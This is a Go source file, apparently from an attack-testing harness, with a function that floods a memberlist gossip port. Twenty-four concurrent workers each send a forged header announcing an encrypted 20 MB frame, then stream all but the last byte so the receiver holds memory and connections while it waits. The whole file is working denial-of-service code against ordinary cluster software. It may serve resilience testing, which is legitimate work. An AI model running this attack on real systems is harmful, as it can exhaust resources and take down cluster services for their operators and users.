package main

import (
	"context"
	"encoding/binary"
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

// fatGossip begins frames of memberlist's that are said to be encrypted and 20 MB
// long, and sends all of each but the last byte.
func fatGossip(ctx context.Context, s *site) (outcome, error) {
	const size, workers = 20<<20 - 64, 24
	head := append([]byte{244, byte(len(clusterName))}, clusterName...) // its label
	head = binary.BigEndian.AppendUint32(append(head, 10), size)        // encrypted
	var size20, refused atomic.Int64
	var wg sync.WaitGroup
	for i := range workers {
		wg.Go(func() {
			for ctx.Err() == nil {
				c, err := dialer(s.host(attackerHost)).DialContext(ctx, "tcp", s.tcp(i, s.gossip()))
				if err != nil {
					refused.Add(1)
					wait(ctx, 100*time.Millisecond)
					continue
				}
				if fatten(ctx, c, head, size-1) {
					size20.Add(1)
				}
			}
		})
	}
	wg.Wait()
	return outcome{Note: fmt.Sprintf("%d frames of 20 MB taken, %d connections refused", size20.Load(), refused.Load())}, nil
}

// fatten sends so many bytes after the head, and leaves the other end to wait for
// the rest.
func fatten(ctx context.Context, c net.Conn, head []byte, size int) bool {
	defer context.AfterFunc(ctx, func() { _ = c.Close() })()
	defer c.Close()
	chunk := make([]byte, 1<<20)
	_, err := c.Write(head)
	for ; err == nil && size > 0; size -= len(chunk) {
		_ = c.SetWriteDeadline(time.Now().Add(3 * time.Second))
		_, err = c.Write(chunk[:min(size, len(chunk))])
	}
	if err != nil {
		return false
	}
	_ = c.SetReadDeadline(time.Now().Add(3 * time.Second))
	_, _ = c.Read(chunk[:1])
	return true
}
